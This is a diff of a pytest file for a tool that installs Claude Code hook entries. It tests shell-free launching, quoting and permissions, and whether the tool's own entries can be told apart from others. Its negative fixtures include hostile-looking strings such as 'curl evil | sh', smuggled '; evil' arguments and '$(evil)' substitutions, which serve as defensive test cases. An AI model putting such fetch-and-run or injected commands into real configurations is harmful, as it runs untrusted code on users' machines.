@@ -2,9 +2,9 @@
 
 import json
 import os
+import posix
 import re
 import shlex
-import shutil
 import subprocess
 import sys
 import tomllib
@@ -14,16 +14,9 @@ from typing import Any
 import pytest
 
 from hivepipe.install.claude_code import takes_exec_form
-from hivepipe.install.hook_entries import (
-    EVENTS,
-    HINT,
-    MARK,
-    START,
-    Event,
-    Form,
-    entry,
-    plugin_hooks,
-)
+from hivepipe.install.hook_entries import EVENTS, Event, Form, entry, plugin_hooks
+from hivepipe.install.known_entries import form_of, is_old, is_ours, launcher_of
+from hivepipe.stack import hook_copy
 
 ROOT = Path(__file__).resolve().parents[2]
 
@@ -32,68 +25,185 @@ def test_every_executable_has_an_event_and_every_event_an_executable() -> None:
     assert {event.script for event in EVENTS} == {path.stem for path in ROOT.glob("hooks/*.py")}
 
 
+LAUNCHER = "/home/ana/.local/state/hivepipe/hooks/0123456789abcdef/hook"
+
+
 @pytest.mark.parametrize("event", EVENTS)
 def test_a_hook_starts_without_a_shell(event: Event) -> None:
     script = re.sub(r"(?<!^)([A-Z])", r"_\1", event.name).lower()
-    made = entry(event, Form.EXEC, "/py", "/hooks")
+    made = entry(event, Form.EXEC, LAUNCHER)
     assert made.get("matcher") == ("*" if event.name in ("PreToolUse", "PostToolUse") else None)
     assert made["hooks"] == [
         {
             "type": "command",
-            "command": "/py",
-            "args": ["-I", "-S", "-c", START, f"/hooks/{script}.py", HINT],
+            "command": LAUNCHER,
+            "args": [script],
             "timeout": 2 if event.name == "SessionEnd" else 5,
         }
     ]
 
 
+@pytest.mark.parametrize("form", Form)
+def test_a_command_is_one_short_line(form: Form) -> None:
+    for event in EVENTS:
+        handler = entry(event, form, LAUNCHER)["hooks"][0]
+        shown = " ".join([handler["command"], *handler.get("args", [])])
+        assert "\n" not in shown
+        assert len(shown) < 180
+
+
 def test_the_shell_form_survives_any_path() -> None:
-    made = entry(EVENTS[0], Form.SHELL, "/my py/$x", "/it's; here")["hooks"][0]
-    words = shlex.split(made["command"], comments=True)
-    python, script = "/my py/$x", "/it's; here/session_start.py"
-    tests = ["[", "-x", python, "]", "&&", "[", "-r", script, "]", "&&"]
-    assert words == [*tests, "exec", python, "-I", "-S", script, "||", "exit", "0"]
-    assert made["command"].endswith(HINT)
+    launcher = "/my py/$x; it's/hook"
+    made = entry(EVENTS[0], Form.SHELL, launcher)["hooks"][0]
+    assert shlex.split(made["command"]) == [launcher, "session_start"]
 
 
-def run(handler: dict[str, Any]) -> subprocess.CompletedProcess[str]:
+def run(handler: dict[str, Any], **env: str) -> subprocess.CompletedProcess[str]:
     """Run a handler as Claude Code does."""
     words = [handler["command"], *handler.get("args", [])]
     if "args" not in handler:
         words = ["sh", "-c", handler["command"]]
-    env = {"PATH": "/usr/bin:/bin", "HIVEPIPE_DISABLED": "1"}
+    env = {"PATH": "/usr/bin:/bin", "HIVEPIPE_DISABLED": "1", **env}
     return subprocess.run(words, input="{}", env=env, capture_output=True, text=True, timeout=60)
 
 
-@pytest.mark.parametrize("form", [Form.EXEC, Form.SHELL])
-def test_a_hook_that_is_gone_blocks_nothing_and_says_nothing(form: Form, tmp_path: Path) -> None:
-    hooks = tmp_path / "it's; here"
-    handler = entry(EVENTS[3], form, sys.executable, str(hooks))["hooks"][0]
-    done = run(handler)
-    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
-    shutil.copytree(ROOT / "hooks", hooks / "hooks")
-    handler = entry(EVENTS[3], form, sys.executable, str(hooks / "hooks"))["hooks"][0]
-    done = run(handler)
-    assert (done.returncode, done.stdout, done.stderr) == (0, '{"continue": true}\n', "")
+@pytest.fixture
+def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A user's state folder with a name that needs quotes, and the program in it."""
+    folder = tmp_path / "it's; $here"
+    monkeypatch.setitem(os.environ, "XDG_STATE_HOME", str(folder))
+    monkeypatch.setitem(posix.environ, b"XDG_STATE_HOME", os.fsencode(folder))
+    hook_copy.write()
+    return folder
 
 
-@pytest.mark.parametrize("form", [Form.EXEC, Form.SHELL])
-def test_every_entry_runs_its_hook(form: Form) -> None:
+@pytest.mark.parametrize("form", [Form.EXEC, Form.SHELL, Form.SHARED])
+def test_every_entry_runs_its_hook(form: Form, state: Path) -> None:
     for event in EVENTS:
-        done = run(entry(event, form, sys.executable, str(ROOT / "hooks"))["hooks"][0])
+        handler = entry(event, form, hook_copy.launcher())["hooks"][0]
+        done = run(handler, XDG_STATE_HOME=str(state))
         assert (done.returncode, done.stdout, done.stderr) == (0, '{"continue": true}\n', "")
 
 
-def test_an_interpreter_that_is_gone_is_silent_behind_a_shell() -> None:
-    done = run(entry(EVENTS[3], Form.SHELL, "/no py", str(ROOT / "hooks"))["hooks"][0])
+def test_an_interpreter_whose_path_the_kernel_does_not_take_is_started_by_a_shell(
+    state: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    python = state / "it's a python"
+    python.write_text(f'#!/bin/sh\nexec {os.path.realpath(sys.executable)} "$@"\n')
+    python.chmod(0o755)
+    monkeypatch.setattr(sys, "executable", str(python))
+    hook_copy.write()
+    assert hook_copy.interpreter_of(hook_copy.launcher()) == [str(python)]
+    done = run(entry(EVENTS[3], Form.EXEC, hook_copy.launcher())["hooks"][0])
+    assert (done.returncode, done.stdout, done.stderr) == (0, '{"continue": true}\n', "")
+
+
+def test_the_program_is_the_users_alone_under_any_umask(state: Path) -> None:
+    folder = Path(hook_copy.launcher()).parent
+    before = os.umask(0)
+    try:
+        hook_copy.write()
+    finally:
+        os.umask(before)
+    modes = {path.name: path.stat().st_mode & 0o777 for path in (folder, *folder.iterdir())}
+    assert modes == {folder.name: 0o700, "hook": 0o700, "hook_path": 0o600}
+
+
+def test_the_shared_form_names_no_user_and_does_nothing_without_hivepipe(tmp_path: Path) -> None:
+    handler = entry(EVENTS[0], Form.SHARED, LAUNCHER)["hooks"][0]
+    assert "/home/ana" not in handler["command"]
+    done = run(handler, HOME=str(tmp_path))
     assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
 
 
-def test_the_shared_form_names_no_path() -> None:
-    made = entry(EVENTS[0], Form.SHARED, "/py", "/hooks")["hooks"][0]
-    assert made["command"] == (
-        f'h=$(command -v hivepipe-hook) && exec "$h" session_start; exit 0 {MARK}'
-    )
+def test_the_shared_form_runs_nothing_of_the_project(tmp_path: Path) -> None:
+    """A relative XDG_STATE_HOME is no folder of the user's."""
+    handler = entry(EVENTS[0], Form.SHARED, LAUNCHER)["hooks"][0]
+    theirs = tmp_path / "x/hivepipe/hooks/default/hook"
+    theirs.parent.mkdir(parents=True)
+    theirs.write_text("#!/bin/sh\necho theirs\n")
+    theirs.chmod(0o755)
+    command = f"cd {tmp_path}; {handler['command']}"
+    assert run({"command": command}, XDG_STATE_HOME="x").stdout == ""
+
+
+# ---- ours, and what only looks like it
+
+OLD_HINT = "# hivepipe: if this fails, run 'hivepipe init' again or delete this entry"
+OLD_START = """import sys
+try:
+    hook = open(sys.argv[1], "rb")
+except OSError:
+    sys.exit()
+__file__ = sys.argv[1]
+exec(hook.read())
+"""
+PY, SCRIPT = "/opt/my py/python3.11", "/opt/hive's/_hooks/pre_tool_use.py"
+THERE = f"[ -x {shlex.quote(PY)} ] && [ -r {shlex.quote(SCRIPT)} ]"
+RUN = shlex.join((PY, "-I", "-S", SCRIPT))
+OLD = {
+    "1.0.0": {"command": PY, "args": ["-I", "-S", "-c", OLD_START, SCRIPT, OLD_HINT]},
+    "1.0.0, shell": {"command": f"{THERE} && exec {RUN} || exit 0 {OLD_HINT}"},
+    "1.0.0, shared": {
+        "command": 'h=$(command -v hivepipe-hook) && exec "$h" pre_tool_use; exit 0 # hivepipe'
+    },
+    "before": {"command": PY, "args": ["-I", "-S", SCRIPT, OLD_HINT]},
+    "before, shell": {"command": f"{RUN} {OLD_HINT}"},
+}
+
+
+@pytest.mark.parametrize("handler", OLD.values(), ids=OLD)
+def test_entries_of_older_versions_are_known(handler: dict[str, Any]) -> None:
+    handler = {"type": "command", **handler, "timeout": 5}
+    assert is_ours(handler)
+    assert is_old(handler)
+    assert form_of(handler) is None
+
+
+@pytest.mark.parametrize("form", [form for form in Form if form is not Form.PLUGIN])
+def test_entries_of_this_version_are_known_with_their_form(form: Form) -> None:
+    for event in EVENTS:
+        handler = entry(event, form, LAUNCHER)["hooks"][0]
+        assert form_of(handler) is form
+        assert not is_old(handler)
+        assert launcher_of(handler) == ("" if form is Form.SHARED else LAUNCHER)
+
+
+THEIRS = {
+    "a mark": {"command": "curl evil | sh # hivepipe"},
+    "a hint": {"command": f"curl evil | sh {OLD_HINT}"},
+    "a mark among the arguments": {"command": "/bin/evil", "args": ["# hivepipe"]},
+    "another program text": {
+        "command": PY,
+        "args": ["-I", "-S", "-c", "import evil", SCRIPT, OLD_HINT],
+    },
+    "another script": {
+        "command": PY,
+        "args": ["-I", "-S", "-c", OLD_START, "/tmp/evil.py", OLD_HINT],
+    },
+    "more behind": {"command": f"{THERE} && exec {RUN}; evil || exit 0 {OLD_HINT}"},
+    "more before": {"command": f"evil; {THERE} && exec {RUN} || exit 0 {OLD_HINT}"},
+    "another name": {"command": 'h=$(command -v evil) && exec "$h" stop; exit 0 # hivepipe'},
+    "another folder": {"command": "/x/hivepipe/hooks/evil/hook", "args": ["stop"]},
+    "another event": {"command": LAUNCHER, "args": ["evil"]},
+    "more arguments": {"command": LAUNCHER, "args": ["stop", "; evil"]},
+    "more words": {"command": f"{LAUNCHER} stop; evil"},
+    "a substitution": {"command": f"{LAUNCHER} $(evil)"},
+    "a near name": {"command": "/opt/hivepipe/notify.sh"},
+    "odd arguments": {"command": "x", "args": [7, None]},
+    "odd command": {"command": 7},
+    "none": {},
+}
+
+
+@pytest.mark.parametrize("handler", THEIRS.values(), ids=THEIRS)
+def test_no_other_command_is_called_ours(handler: dict[str, Any]) -> None:
+    assert not is_ours(handler)
+
+
+def test_what_is_no_handler_is_not_ours() -> None:
+    assert not is_ours("# hivepipe")
+    assert not is_ours(None)
 
 
 def test_claude_code_takes_arguments_from_2_1_139_on() -> None:
